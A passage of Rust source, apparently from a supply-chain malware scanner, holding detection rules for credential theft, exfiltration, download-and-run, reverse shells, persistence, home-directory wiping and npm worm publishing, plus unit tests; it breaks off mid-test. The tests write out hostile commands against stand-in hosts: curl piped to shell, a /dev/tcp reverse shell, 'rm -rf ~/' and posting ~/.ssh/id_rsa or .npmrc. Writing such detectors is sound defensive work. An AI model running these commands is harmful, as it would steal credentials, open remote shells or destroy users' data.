                    || matches!(t, Technique::SelfPropagation | Technique::CredentialAccess)
                {
                    continue;
                }
                seen.push(t);
                let runs = call.is_some() || self.file.kind == FileKind::Script;
                let top = call.is_some_and(|c| c.top_level);
                let step = match call {
                    Some(c) => Step::from_call(c, format!("runs `{}`", cut(&s.value, 80))),
                    None => Step::from_string(s, format!("command `{}`", cut(&s.value, 80))),
                };
                let malicious = match t {
                    Technique::Persistence => false,
                    Technique::DestructiveCode => self.install_time || (runs && top),
                    _ => self.install_time || (runs && top) || is_obfuscated(self.file).is_some(),
                };
                out.push(self.detection(
                    t,
                    format!("{} runs a command that {why}", self.where_()),
                    vec![step],
                    malicious,
                ));
            }
        }
    }

    fn cred_reads(&self) -> Vec<(&'a StringFact, &'static str)> {
        let reads = !self.fs_read.is_empty() || !self.shell.is_empty();
        if !reads {
            return Vec::new();
        }
        let mut out = Vec::new();
        for s in &self.file.strings {
            if let Some(store) = credential_store(&s.value)
                && !out.iter().any(|(_, n)| *n == store)
            {
                out.push((s, store));
            }
        }
        out
    }

    fn credentials_and_exfiltration(&self, out: &mut Vec<Detection>) {
        let creds = self.cred_reads();
        let gh_token: Vec<&CallFact> = self
            .shell_calls
            .iter()
            .copied()
            .filter(|c| {
                c.args.iter().flatten().any(|a| {
                    command_techniques(a)
                        .iter()
                        .any(|(t, _)| *t == Technique::CredentialAccess)
                })
            })
            .collect();
        let dotenv: Option<&StringFact> = if self.fs_read.is_empty() {
            None
        } else {
            self.file.strings.iter().find(|s| is_dotenv(&s.value))
        };
        let sinks = !self.net.is_empty() || !self.dns.is_empty();
        // Credential access.
        let mut cred_steps: Vec<Step> = creds
            .iter()
            .take(4)
            .map(|(s, store)| Step::from_string(s, format!("names {store}")))
            .collect();
        cred_steps.extend(
            gh_token
                .iter()
                .map(|c| Step::from_call(c, "runs a command that prints a stored token")),
        );
        if let Some(r) = self.fs_read.first()
            && !creds.is_empty()
        {
            cred_steps.push(Step::from_use(r, format!("reads files with `{}`", r.api)));
        }
        let home_creds = !creds.is_empty() || !gh_token.is_empty();
        if home_creds || (dotenv.is_some() && self.install_time) {
            let mut steps = cred_steps.clone();
            if !home_creds && let Some(d) = dotenv {
                steps.push(Step::from_string(d, "names a `.env` file"));
            }
            let names: Vec<&str> = creds.iter().map(|(_, n)| *n).collect();
            let what = if names.is_empty() {
                if gh_token.is_empty() {
                    "a project `.env` file".to_string()
                } else {
                    "a stored CLI token".to_string()
                }
            } else {
                names.join(", ")
            };
            // Outside install time, the stolen data must reach the network: file contents or
            // command output flowing into a request, or the store named in the function
            // that sends (an SDK that resolves `~/.aws/credentials` and has an HTTP client
            // elsewhere in the file is not a thief).
            let sink_scopes: Vec<u32> = self.sink_calls().map(|c| c.scope).collect();
            let cred_reaches_sink = self
                .sink_calls()
                .any(|c| c.receives(Source::FileRead) || c.receives(Source::CommandOutput))
                || creds
                    .iter()
                    .any(|(s, _)| sink_scopes.contains(&self.file.scope_at(s.location.span.start)))
                || gh_token.iter().any(|c| sink_scopes.contains(&c.scope));
            let malicious =
                home_creds && (self.install_time || (sinks && cred_reaches_sink && !self.bundle));
            out.push(self.detection(
                Technique::CredentialAccess,
                format!("{} reads {what}", self.where_()),
                steps,
                malicious,
            ));
        }
        // Exfiltration: a source reaching a network sink (data flow), or a source and a sink
        // in the same function; bare co-occurrence in one file is not enough.
        if !sinks {
            return;
        }
        let flow = self.flow(home_creds || !gh_token.is_empty());
        let same_scope = self.source_sink_same_scope();
        if flow.is_none() && !same_scope {
            return;
        }
        let mut sources: Vec<Step> = Vec::new();
        let mut strong_source = false;
        if let Some(u) = self.env_bulk.first() {
            sources.push(Step::from_use(u, "reads the whole `process.env`"));
            strong_source = true;
        }
        if home_creds {
            sources.extend(cred_steps.iter().cloned());
            strong_source = true;
        }
        if let Some(u) = self.sysinfo.first() {
            sources.push(Step::from_use(u, format!("collects `{}`", u.api)));
        }
        if self.install_time
            && let Some(d) = dotenv
        {
            sources.push(Step::from_string(d, "reads a `.env` file"));
            strong_source = true;
        }
        let secret_names: Vec<&str> = self
            .env_secret
            .iter()
            .filter_map(|u| u.detail.as_deref())
            .collect();
        if let Some(u) = self.env_secret.first() {
            sources.push(Step::from_use(
                u,
                format!("reads `{}`", secret_names.join("`, `")),
            ));
        }
        // Cloud metadata credentials, probed from install-time code.
        let metadata = self.file.strings.iter().find(|s| {
            endpoints::classify(&s.value)
                .iter()
                .any(|e| e.category == EndpointCategory::CloudMetadata)
        });
        if let Some(m) = metadata
            && self.install_time
        {
            sources.push(Step::from_string(
                m,
                "probes the cloud metadata service for credentials",
            ));
            strong_source = true;
        }
        if sources.is_empty() {
            return;
        }
        let sink: Step = if let Some((c, what)) = &flow {
            let url = c
                .args
                .first()
                .cloned()
                .flatten()
                .filter(|a| a.contains("://") || c.callee.starts_with("dns."));
            match url {
                Some(url) => Step::from_call(c, format!("sends {what} to `{}`", cut(&url, 80))),
                None => Step::from_call(c, format!("sends {what} with `{}`", c.callee)),
            }
        } else if let Some(d) = self.dns.first() {
            Step::from_call(d, format!("sends it in DNS lookups (`{}`)", d.callee))
        } else {
            let u = self.net[0];
            let url = self
                .file
                .calls
                .iter()
                .find(|c| c.location.line == u.location.line && c.callee == u.api)
                .and_then(|c| c.args.first().cloned().flatten())
                .filter(|a| a.contains("://"));
            match url {
                Some(url) => Step::from_use(u, format!("sends it to `{}`", cut(&url, 80))),
                None => Step::from_use(u, format!("sends it over the network (`{}`)", u.api)),
            }
        };
        // Classifying every string of the file is the costly part: only here, where a
        // source and a sink were found, is it needed.
        let suspicious_sink = self.file.strings.iter().any(|s| {
            endpoints::classify(&s.value).iter().any(|e| {
                e.warns()
                    || matches!(
                        e.category,
                        EndpointCategory::MessengerWebhook
                            | EndpointCategory::RequestCatcher
                            | EndpointCategory::FileShare
                    )
            })
        });
        let only_secret_env =
            !strong_source && self.sysinfo.is_empty() && !self.env_secret.is_empty();
        let malicious = if self.install_time {
            !only_secret_env || suspicious_sink
        } else {
            !self.bundle
                && ((strong_source && (home_creds || self.net_top || suspicious_sink))
                    || (suspicious_sink && !self.dns.is_empty()))
        };
        let mut steps = sources;
        steps.truncate(4);
        steps.push(sink);
        out.push(self.detection(
            Technique::Exfiltration,
            format!(
                "{} collects secrets or host data and sends them over the network",
                self.where_()
            ),
            steps,
            malicious,
        ));
    }

    /// Network and DNS calls: where data leaves the machine.
    fn sink_calls(&self) -> impl Iterator<Item = &'a CallFact> + '_ {
        self.file.calls.iter().filter(|c| {
            self.dns.iter().any(|d| std::ptr::eq(*d, *c))
                || self
                    .net
                    .iter()
                    .any(|u| u.api == c.callee && u.location.span == c.location.span)
        })
    }

    /// The first network/DNS call whose arguments receive a secret or host data, with what
    /// it receives. `creds`: the file names a credential store or runs a token command, so
    /// file contents and command output count.
    fn flow(&self, creds: bool) -> Option<(&'a CallFact, &'static str)> {
        let secret_env_scopes: Vec<u32> = self
            .env_secret
            .iter()
            .map(|u| self.file.scope_at(u.location.span.start))
            .collect();
        for c in self.sink_calls() {
            let what = if c.receives(Source::EnvAll) {
                "the whole environment"
            } else if creds && c.receives(Source::FileRead) {
                "credential file contents"
            } else if creds && c.receives(Source::CommandOutput) {
                "a stored token"
            } else if c.receives(Source::EnvVar)
                && secret_env_scopes.iter().any(|s| *s == 0 || *s == c.scope)
            {
                "secret environment variables"
            } else if c.receives(Source::SystemInfo) {
                "host and user information"
            } else {
                continue;
            };
            return Some((c, what));
        }
        None
    }

    /// A whole-environment, secret-variable or host-identity read in the same function as a
    /// network/DNS call.
    fn source_sink_same_scope(&self) -> bool {
        let sink_scopes: Vec<u32> = self.sink_calls().map(|c| c.scope).collect();
        if sink_scopes.is_empty() {
            return false;
        }
        self.env_bulk
            .iter()
            .chain(&self.env_secret)
            .chain(&self.sysinfo)
            .any(|u| sink_scopes.contains(&self.file.scope_at(u.location.span.start)))
    }

    fn dynamic_code(&self, out: &mut Vec<Detection>) {
        let file = self.file;
        for c in &self.dyn_calls {
            // A constant body that is code doing something dangerous.
            let body = c.args.iter().rev().flatten().find(|a| a.len() >= 12);
            if let Some(body) = body {
                let ct = code_text(body);
                let computed = file.strings.iter().any(|s| {
                    s.folded
                        && s.location.line == c.location.line
                        && body.starts_with(&s.value[..s.value.len().min(body.len())])
                        && s.value.len() >= 12
                }) || !c.code.text.contains(&body[..body.len().min(24)]);
                if ct.dangerous {
                    let t = if computed {
                        Technique::EncodedPayloadExec
                    } else {
                        Technique::DownloadExec
                    };
                    if t == Technique::DownloadExec && !ct.shell {
                        continue;
                    }
                    out.push(self.detection(
                        Technique::EncodedPayloadExec,
                        format!(
                            "{} decodes code and runs it with `{}`",
                            self.where_(),
                            c.callee
                        ),
                        vec![Step::from_call(
                            c,
                            format!("runs decoded code `{}` with `{}`", cut(body, 100), c.callee),
                        )],
                        true,
                    ));
                    return;
                }
                continue;
            }
            if self.bundle && !self.install_time {
                continue;
            }
            // A computed body: decoded in the same file, or fetched.
            let runs_now = self.install_time || c.top_level;
            let stego = file
                .strings
                .iter()
                .find(|s| s.len >= 64 && s.value.chars().all(|ch| ch == ' ' || ch == '\t'));
            let decode = self
                .decode_calls
                .iter()
                .find(|d| d.top_level || !c.top_level);
            if let Some(d) = decode
                .copied()
                .filter(|_| runs_now)
                .or_else(|| stego.and(self.decode_calls.first().copied()))
            {
                let mut steps = Vec::new();
                if let Some(s) = stego {
                    steps.push(Step::from_string(s, "hides a payload in whitespace"));
                }
                steps.push(Step::from_call(
                    d,
                    format!("decodes data with `{}`", d.callee),
                ));
                steps.push(Step::from_call(
                    c,
                    format!("runs the result with `{}`", c.callee),
                ));
                out.push(self.detection(
                    Technique::EncodedPayloadExec,
                    format!(
                        "{} decodes a payload and runs it with `{}`",
                        self.where_(),
                        c.callee
                    ),
                    steps,
                    true,
                ));
                return;
            }
            // Python facts carry no per-argument flow: the download and the `exec`/`eval`
            // must at least run in one function (or both at module level). IPython's
            // `%pastebin` magic posts to dpaste in one method and `%load` evals a range in
            // another; nothing downloaded reaches the `eval`.
            let net = if file.kind == FileKind::Python {
                self.net
                    .iter()
                    .copied()
                    .find(|n| file.scope_at(n.location.span.start) == c.scope)
            } else {
                self.net.first().copied()
            };
            if let Some(n) = net {
                let endpoint = file.strings.iter().find(|s| {
                    endpoints::classify(&s.value).iter().any(|e| {
                        matches!(
                            e.category,
                            EndpointCategory::PasteSite
                                | EndpointCategory::RawIp
                                | EndpointCategory::FileShare
                                | EndpointCategory::Tunnel
                        )
                    })
                });
                let mut steps = Vec::new();
                if let Some(e) = endpoint {
                    steps.push(Step::from_string(
                        e,
                        format!("names `{}`", cut(&e.value, 80)),
                    ));
                }
                steps.push(Step::from_use(n, format!("downloads with `{}`", n.api)));
                steps.push(Step::from_call(
                    c,
                    format!("runs downloaded code with `{}`", c.callee),
                ));
                out.push(self.detection(
                    Technique::DownloadExec,
                    format!(
                        "{} downloads code and runs it with `{}`",
                        self.where_(),
                        c.callee
                    ),
                    steps,
                    self.install_time || endpoint.is_some(),
                ));
                return;
            }
            // A paste-site URL and a constructed function, the fetch hidden behind globals.
            if let Some(e) = file.strings.iter().find(|s| {
                (file.kind != FileKind::Python || file.scope_at(s.location.span.start) == c.scope)
                    && endpoints::classify(&s.value)
                        .iter()
                        .any(|e| e.category == EndpointCategory::PasteSite && e.specific)
            }) {
                out.push(self.detection(
                    Technique::DownloadExec,
                    format!(
                        "{} loads code from a paste site and runs it with `{}`",
                        self.where_(),
                        c.callee
                    ),
                    vec![
                        Step::from_string(e, format!("names `{}`", cut(&e.value, 80))),
                        Step::from_call(c, format!("runs code with `{}`", c.callee)),
                    ],
                    true,
                ));
                return;
            }
        }
        // Decoded code that is dangerous, whatever runs it (`new module.constructor()._compile`).
        for s in &file.strings {
            if !s.folded || s.len < 24 {
                continue;
            }
            let ct = code_text(&s.value);
            if ct.dangerous
                && (!self.dyn_calls.is_empty() || !self.decode_calls.is_empty())
                && !self.bundle
            {
                out.push(self.detection(
                    Technique::EncodedPayloadExec,
                    format!(
                        "{} decodes hidden code that {}",
                        self.where_(),
                        if ct.shell {
                            "runs commands"
                        } else {
                            "sends data over the network"
                        }
                    ),
                    vec![Step::from_string(
                        s,
                        format!("decodes code `{}`", cut(&s.value, 100)),
                    )],
                    true,
                ));
                return;
            }
        }
    }

    /// Network download, file made executable or written, then a process started.
    fn download_write_run(&self, out: &mut Vec<Detection>) {
        if self.net.is_empty() || self.shell.is_empty() {
            return;
        }
        let chmod = self
            .file
            .uses
            .iter()
            .find(|u| u.api.ends_with("chmodSync") || u.api.ends_with("chmod"));
        let write = self.fs_write.first().copied().or(chmod);
        let Some(write) = write else { return };
        let endpoint = self.file.strings.iter().find(|s| {
            endpoints::classify(&s.value).iter().any(|e| {
                e.is_url
                    && matches!(
                        e.category,
                        EndpointCategory::RawIp
                            | EndpointCategory::PasteSite
                            | EndpointCategory::FileShare
                            | EndpointCategory::Tunnel
                    )
            })
        });
        let mut steps = Vec::new();
        if let Some(e) = endpoint {
            steps.push(Step::from_string(
                e,
                format!("names `{}`", cut(&e.value, 80)),
            ));
        }
        steps.push(Step::from_use(
            self.net[0],
            format!("downloads with `{}`", self.net[0].api),
        ));
        steps.push(Step::from_use(
            write,
            format!("writes it with `{}`", write.api),
        ));
        steps.push(Step::from_use(
            self.shell[0],
            format!("starts a process with `{}`", self.shell[0].api),
        ));
        out.push(self.detection(
            Technique::DownloadExec,
            format!(
                "{} downloads a file, writes it and starts a process",
                self.where_()
            ),
            steps,
            endpoint.is_some() && (self.install_time || self.net_top),
        ));
    }

    fn reverse_shell(&self, out: &mut Vec<Detection>) {
        let socket = self.net.iter().find(|u| {
            matches!(
                u.api.as_str(),
                "net.Socket" | "net.connect" | "net.createConnection" | "tls.connect"
            )
        });
        let Some(socket) = socket else { return };
        let shell = self.shell_calls.iter().find(|c| {
            c.args.first().and_then(Option::as_deref).is_some_and(|a| {
                let name = a
                    .rsplit(['/', '\\'])
                    .next()
                    .unwrap_or(a)
                    .to_ascii_lowercase();
                matches!(
                    name.as_str(),
                    "sh" | "bash"
                        | "zsh"
                        | "cmd.exe"
                        | "cmd"
                        | "powershell.exe"
                        | "powershell"
                        | "pwsh"
                )
            })
        });
        let Some(shell) = shell else { return };
        out.push(self.detection(
            Technique::ReverseShell,
            format!(
                "{} spawns a shell and connects it to a socket",
                self.where_()
            ),
            vec![
                Step::from_call(
                    shell,
                    format!("spawns `{}`", shell.args[0].as_deref().unwrap_or("a shell")),
                ),
                Step::from_use(socket, format!("opens a socket with `{}`", socket.api)),
            ],
            true,
        ));
    }

    fn persistence(&self, out: &mut Vec<Detection>) {
        if self.fs_write.is_empty() {
            return;
        }
        const TARGETS: [(&str, &str); 12] = [
            (".bashrc", "shell startup file"),
            (".zshrc", "shell startup file"),
            (".bash_profile", "shell startup file"),
            (".profile", "shell startup file"),
            ("launchagents", "launchd agent"),
            ("launchdaemons", "launchd agent"),
            ("systemd", "systemd unit"),
            ("/etc/cron", "cron job"),
            ("currentversion\\run", "Windows Run key"),
            ("start menu", "Startup folder"),
            ("autostart", "XDG autostart entry"),
            ("/etc/rc.local", "boot script"),
        ];
        let mut target = None;
        for s in &self.file.strings {
            if s.len > 200 {
                continue;
            }
            let l = s.value.to_ascii_lowercase();
            if let Some((_, what)) = TARGETS.iter().find(|(n, _)| {
                if n.starts_with('.') {
                    l == *n || l.ends_with(&format!("/{n}"))
                } else {
                    l.contains(n)
                }
            }) {
                target = Some((s, *what));
                break;
            }
        }
        let Some((target, what)) = target else { return };
        let write = self.fs_write[0];
        // What is written: a download-and-run line or code that calls home.
        let payload = self.file.calls.iter().find_map(|c| {
            let m = c.callee.rsplit('.').next().unwrap_or("");
            if !(m.contains("write") || m.contains("append")) {
                return None;
            }
            c.args
                .iter()
                .flatten()
                .find(|a| command_has_download(a) || code_text(a).network)
                .map(|a| (c, a))
        });
        let mut steps = vec![Step::from_string(target, format!("names a {what}"))];
        steps.push(Step::from_use(
            write,
            format!("writes with `{}`", write.api),
        ));
        if let Some((c, a)) = payload {
            steps.push(Step::from_call(
                c,
                format!("installs `{}`", cut(a.trim(), 80)),
            ));
        }
        out.push(self.detection(
            Technique::Persistence,
            format!(
                "{} writes a {what} so code runs on every login or boot",
                self.where_()
            ),
            steps,
            self.install_time
                && (payload.is_some() || !self.shell.is_empty() || !self.net.is_empty()),
        ));
    }

    fn destructive(&self, out: &mut Vec<Detection>) {
        let file = self.file;
        if let Some(l) = file.signals.top_level_infinite_loops.first() {
            out.push(self.detection(
                Technique::DestructiveCode,
                format!(
                    "{} never finishes loading: an endless loop runs at top level",
                    self.where_()
                ),
                vec![Step {
                    location: l.location.clone(),
                    code: l.code.clone(),
                    label: "loops forever when the module is loaded".to_string(),
                }],
                !self.bundle,
            ));
        }
        let homedir = file.uses.iter().find(|u| {
            u.api == "os.homedir" || matches!(u.detail.as_deref(), Some("HOME" | "USERPROFILE"))
        });
        let Some(home) = homedir else { return };
        let walk = file
            .uses
            .iter()
            .find(|u| u.api.ends_with("readdirSync") || u.api.ends_with("readdir"));
        let Some(walk) = walk else { return };
        let wipe = file.uses.iter().find(|u| {
            let m = u.api.rsplit('.').next().unwrap_or("");
            matches!(
                m,
                "rmSync" | "rm" | "rmdirSync" | "rmdir" | "unlinkSync" | "unlink"
            ) || (m.starts_with("writeFile") && u.kind == UseKind::Call)
        });
        let Some(wipe) = wipe else { return };
        // Overwriting needs a constant content; deleting is enough.
        let gate = file
            .strings
            .iter()
            .find(|s| {
                s.value.starts_with("Europe/")
                    || s.value.starts_with("Asia/")
                    || matches!(
                        s.value.to_ascii_lowercase().as_str(),
                        "ru" | "by" | "russia" | "belarus" | "ru-ru"
                    )
            })
            .or_else(|| {
                file.strings.iter().find(|s| {
                    s.value.contains("countryCode")
                        || s.value.contains("country_name")
                        || s.value.contains("ipgeo")
                })
            });
        let top = file
            .calls
            .iter()
            .any(|c| c.top_level && c.location.line == wipe.location.line);
        let mut steps = vec![
            Step::from_use(home, "locates the home directory"),
            Step::from_use(walk, format!("walks it with `{}`", walk.api)),
            Step::from_use(
                wipe,
                format!("deletes or overwrites files with `{}`", wipe.api),
            ),
        ];
        if let Some(g) = gate {
            steps.insert(
                0,
                Step::from_string(g, format!("targets `{}`", cut(&g.value, 40))),
            );
        }
        out.push(self.detection(
            Technique::DestructiveCode,
            format!(
                "{} walks the home directory and deletes or overwrites files",
                self.where_()
            ),
            steps,
            !self.bundle && (self.install_time || top || gate.is_some()),
        ));
    }

    fn self_propagation(&self, out: &mut Vec<Detection>) {
        let python = self.file.kind == FileKind::Python;
        // A worm on PyPI uploads with credentials it takes from the victim (`~/.pypirc`, a
        // `TWINE_PASSWORD`/`PYPI_TOKEN` variable); a maintainer's `python setup.py publish`
        // helper (`if sys.argv[-1] == "publish": os.system("twine upload dist/*")`) runs
        // only when asked and uses whatever the maintainer configured.
        let pypi_creds = python
            && (self
                .file
                .strings
                .iter()
                .any(|s| s.len < 300 && s.value.to_ascii_lowercase().contains(".pypirc"))
                || self.file.uses_of(Capability::Env).any(|u| {
                    u.detail.as_deref().is_some_and(|n| {
                        let n = n.to_ascii_uppercase();
                        (n.contains("PYPI") || n.contains("TWINE")) && is_secret_env(&n)
                    })
                }));
        let publish = self.file.strings.iter().find(|s| {
            let l = s.value.to_ascii_lowercase();
            s.len < 400
                && (l.contains("npm publish")
                    || (!python && l == "publish" && !self.shell.is_empty())
                    || (pypi_creds && is_pypi_upload_command(&l)))
        });
        let registry_put = self.file.strings.iter().find(|s| {
            s.value.contains("/-/whoami") || s.value.contains("/-/v1/search?text=maintainer:")
        });
        let enumerate = self.file.strings.iter().find(|s| {
            s.value.contains("maintainer:")
                || s.value.contains("npm whoami")
                || s.value.contains("/-/whoami")
                || s.value.starts_with("npm pack ")
        });
        let writes_manifest = !self.fs_write.is_empty()
            && self
                .file
                .strings
                .iter()
                .any(|s| s.value.ends_with("package.json"));
        let Some(first) = publish.or(registry_put.filter(|_| !self.net.is_empty())) else {
            return;
        };
        if (publish.is_some() && self.shell.is_empty())
            || !(self.install_time || enumerate.is_some())
        {
            // Release tools publish when their user asks; a worm publishes from install-time
            // code or after listing the victim's packages.
            return;
        }
        let mut steps = Vec::new();
        if let Some(e) = enumerate.filter(|e| e.location != first.location) {
            steps.push(Step::from_string(
                e,
                format!(
                    "looks up the maintainer's packages (`{}`)",
                    cut(&e.value, 60)
                ),
            ));
        }
        if writes_manifest && let Some(w) = self.fs_write.first() {
            steps.push(Step::from_use(w, "rewrites a package.json"));
        }
        let what = if publish.is_some() {
            format!("publishes (`{}`)", cut(&first.value, 60))
        } else {
            format!("calls the registry API (`{}`)", cut(&first.value, 60))
        };
        steps.push(Step::from_string(first, what));
        out.push(self.detection(
            Technique::SelfPropagation,
            format!(
                "{} publishes packages with the victim's npm credentials",
                self.where_()
            ),
            steps,
            self.install_time || enumerate.is_some(),
        ));
    }

    /// Obfuscated, bidi-reordered, invisible or whitespace-hidden code that reaches a dangerous
    /// capability on load or at install.
    fn hidden_payload(&self, out: &mut Vec<Detection>) {
        let file = self.file;
        if self.bundle && !self.install_time {
            return;
        }
        let dangerous = file.uses.iter().find(|u| {
            matches!(
                u.capability,
                Capability::Shell | Capability::DynamicCode | Capability::Network
            ) && u.kind != UseKind::Reference
        });
        let Some(danger) = dangerous else { return };
        let sig = &file.signals;
        let hints = &sig.obfuscation;
        let obfuscated_hints = hints.rotation.is_some() || hints.hex_identifiers > 0;
        let hidden: Option<(Location, Excerpt, String)> =
            if let (Some(c), true) = (sig.console_overrides.first(), obfuscated_hints) {
                Some((
                    c.location.clone(),
                    c.code.clone(),
                    "silences the console in obfuscated code".to_string(),
                ))
            } else if let Some(o) = is_obfuscated(file) {
                let top = file.calls.iter().any(|c| c.top_level) || self.install_time;
                top.then(|| {
                    (
                        o.location.clone(),
                        excerpt_at(&o.location, "obfuscated code"),
                        format!("obfuscated ({})", o.signature.describe()),
                    )
                })
            } else if let Some(b) = sig.bidi.iter().find(|b| b.context != TextContext::String) {
                Some((
                    b.location.clone(),
                    b.code.clone(),
                    "bidi control characters reorder the code".to_string(),
                ))
            } else if let Some(i) = sig
                .invisible
                .iter()
                .find(|i| i.context == TextContext::Code)
            {
                Some((
                    i.location.clone(),
                    i.code.clone(),
                    "invisible characters in identifiers".to_string(),
                ))
            } else {
                sig.hidden_code.first().map(|h| {
                    (
                        h.location.clone(),
                        h.code.clone(),
                        "code pushed off-screen by whitespace".to_string(),
                    )
                })
            };
        let Some((loc, code, what)) = hidden else {
            return;
        };
        out.push(self.detection(
            Technique::HiddenPayload,
            format!("{} hides code that reaches `{}`", self.where_(), danger.api),
            vec![
                Step {
                    location: loc,
                    code,
                    label: what,
                },
                Step::from_use(danger, format!("uses `{}`", danger.api)),
            ],
            true,
        ));
    }
}

/// Install-time sources and sinks split across files (a collector module required by the
/// install script).
/// Whether a use in an install-time file runs when the install does. A Python module is
/// install-time because `setup.py` imports it (mypy's `setup.py` imports `mypyc.build`, which
/// imports most of mypy); importing runs its top-level code, not its function bodies. The
/// `setup.py` itself and JavaScript files (whose required modules' exports the install
/// script calls) count whole.
fn runs_at_install(file: &FileFacts, u: &CapabilityUse) -> bool {
    file.kind != FileKind::Python
        || file.path.rsplit('/').next() == Some("setup.py")
        || file.scope_at(u.location.span.start) == 0
}

fn cross_file_exfiltration(pkg: &PackageFacts, out: &mut Vec<Detection>) {
    if out
        .iter()
        .any(|d| d.technique == Technique::Exfiltration && d.install_time)
    {
        return;
    }
    let files: Vec<&FileFacts> = pkg
        .files
        .iter()
        .filter(|f| f.install_time && f.is_code())
        .collect();
    if files.len() < 2 {
        return;
    }
    let source = files.iter().find_map(|f| {
        f.uses.iter().find(|u| {
            runs_at_install(f, u)
                && ((u.capability == Capability::Env && u.detail.as_deref() == Some("*"))
                    || (u.capability == Capability::SystemInfo
                        && (u.api.ends_with("hostname") || u.api.ends_with("userInfo"))))
        })
    });
    let sink = files.iter().find_map(|f| {
        f.uses.iter().find(|u| {
            runs_at_install(f, u)
                && u.capability == Capability::Network
                && matches!(u.kind, UseKind::Call | UseKind::Construct)
        })
    });
    if let (Some(s), Some(k)) = (source, sink)
        && s.location.path != k.location.path
    {
        out.push(Detection {
            technique: Technique::Exfiltration,
            path: s.location.path.clone(),
            summary: format!(
                "install-time code collects `{}` in `{}` and sends it from `{}`",
                s.api, s.location.path, k.location.path
            ),
            steps: vec![
                Step::from_use(s, format!("collects `{}`", s.api)),
                Step::from_use(k, format!("sends over the network with `{}`", k.api)),
            ],
            install_time: true,
            malicious: true,
        });
    }
}

fn cut(s: &str, n: usize) -> String {
    let mut out: String = s.chars().take(n).collect();
    if out.len() < s.len() {
        out.push('…');
    }
    out.replace('\n', "\\n")
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The word filter never hides a technique: every string of the malicious corpus and
    /// every command of these tests that the unfiltered matcher flags passes the filter.
    #[test]
    fn command_prefilter_covers_every_technique() {
        let root =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/corpus/malicious");
        let mut texts: Vec<String> = include_str!("behavior.rs")
            .split('"')
            .skip(1)
            .step_by(2)
            .map(str::to_string)
            .collect();
        let mut stack = vec![root];
        while let Some(dir) = stack.pop() {
            for e in std::fs::read_dir(&dir).into_iter().flatten().flatten() {
                let path = e.path();
                if path.is_dir() {
                    stack.push(path);
                } else if let Ok(text) = std::fs::read_to_string(&path) {
                    // Lines and the quoted parts of lines: what strings and scripts hold.
                    for line in text.lines() {
                        texts.push(line.to_string());
                        texts.extend(line.split(['"', '\'', '`']).map(str::to_string));
                    }
                }
            }
        }
        let mut flagged = 0;
        for t in &texts {
            if !techniques_of_command(t).is_empty() {
                flagged += 1;
                assert!(
                    command_prefilter().is_some_and(|ac| ac.is_match(t)),
                    "the prefilter hides {t:?}"
                );
            }
        }
        assert!(flagged >= 20, "only {flagged} command strings found");
    }

    #[test]
    fn command_lines() {
        let t = |s: &str| {
            command_techniques(s)
                .into_iter()
                .map(|(t, _)| t)
                .collect::<Vec<_>>()
        };
        assert_eq!(
            t("curl -fsSL http://198.51.100.23/i.sh | sh"),
            [Technique::DownloadExec]
        );
        assert_eq!(
            t("wget -qO- https://x.example/a|sudo bash"),
            [Technique::DownloadExec]
        );
        assert!(t("curl -o out.tgz https://registry.npmjs.org/x.tgz").is_empty());
        assert!(t("node-gyp rebuild").is_empty());
        assert_eq!(
            t("bash -i >& /dev/tcp/198.51.100.9/4444 0>&1"),
            [Technique::ReverseShell]
        );
        assert_eq!(t("rm -rf ~/"), [Technique::DestructiveCode]);
        assert!(t("rm -rf /tmp/build").is_empty());
        assert_eq!(
            t("regsvr32 /s /n /u /i:http://198.51.100.5/file.sct scrobj.dll"),
            [Technique::DownloadExec]
        );
        assert_eq!(t("gh auth token"), [Technique::CredentialAccess]);
        // Command-line exfiltration: a credential file or the environment as the request body.
        for cmd in [
            "curl -s -d @$HOME/.npmrc https://c.example/x",
            "curl -F f=@~/.ssh/id_rsa https://c.example",
            "wget --post-file=.env https://c.example/u",
            "env | curl --data-binary @- https://c.example",
        ] {
            assert_eq!(t(cmd), [Technique::Exfiltration], "{cmd}");
        }
        assert!(t("curl -d '{\"a\":1}' https://api.example/v1").is_empty());
        assert!(t("cat ~/.npmrc").contains(&Technique::CredentialAccess));
        assert_eq!(
            t("npm publish --access public"),
            [Technique::SelfPropagation]
        );
    }

    use crate::rules::{exfiltration::Exfiltration, malware::Malware};
    use crate::tester::Tester;

    fn exfiltration_findings(files: &[(&str, &str)]) -> Vec<String> {
        Tester::new(Exfiltration)
            .findings(files.iter().copied())
            .into_iter()
            .map(|f| f.message)
            .collect()
    }

    fn blocked(files: &[(&str, &str)]) -> bool {
        !Tester::new(Malware)
            .findings(files.iter().copied())
            .is_empty()
    }

    const POSTINSTALL: &str =
        r#"{"name":"x","version":"1.0.0","scripts":{"postinstall":"node install.js"}}"#;

    #[test]
    fn spawn_env_and_a_registry_download_are_not_exfiltration() {
        // esbuild's install.js: `{...process.env}` goes to `npm install`, the network is a
        // tarball download in another function.
        let files = [
            ("package.json", POSTINSTALL),
            (
                "install.js",
                "const https = require('https'); const cp = require('child_process');
function fetchTgz(url) { return new Promise((r) => https.get(url, r)); }
function installUsingNPM(pkg) {
  const env = { ...process.env, npm_config_global: undefined };
  cp.execSync('npm install ' + pkg, { env });
}
installUsingNPM('x');
fetchTgz('https://registry.npmjs.org/x/-/x-1.0.0.tgz');",
            ),
        ];
        assert_eq!(exfiltration_findings(&files), Vec::<String>::new());
        assert!(!blocked(&files));
    }

    #[test]
    fn env_key_enumeration_next_to_a_client_is_not_exfiltration() {
        // `debug` lists `DEBUG_*` variable names; its browser build has an HTTP-free sibling.
        let files = [(
            "src/node.js",
            "const keys = Object.keys(process.env).filter((k) => /^debug_/i.test(k));
require('https').get('https://c.example/' + keys.length);",
        )];
        assert_eq!(exfiltration_findings(&files), Vec::<String>::new());
    }

    #[test]
    fn credential_resolver_sdk_is_not_a_thief() {
        // @smithy/core: resolves `~/.aws/credentials`, hands `process.env` to selectors and
        // has an HTTP client - in separate functions, with no flow between them.
        let files = [(
            "dist-cjs/index.js",
            "const os = require('os'); const fs = require('fs'); const http = require('http');
const credsPath = () => require('path').join(os.homedir(), '.aws/credentials');
const loadCreds = () => fs.readFileSync(credsPath(), 'utf8');
const fromEnv = (sel) => async () => sel(process.env);
function request(opts, body) { return http.request(opts).end(body); }
module.exports = { loadCreds, fromEnv, request };",
        )];
        assert_eq!(exfiltration_findings(&files), Vec::<String>::new());
        assert!(!blocked(&files));
    }

    #[test]
    fn secrets_sent_from_inside_a_function_are_followed() {
        let files = [(
            "lib/report.js",
            "function report() {
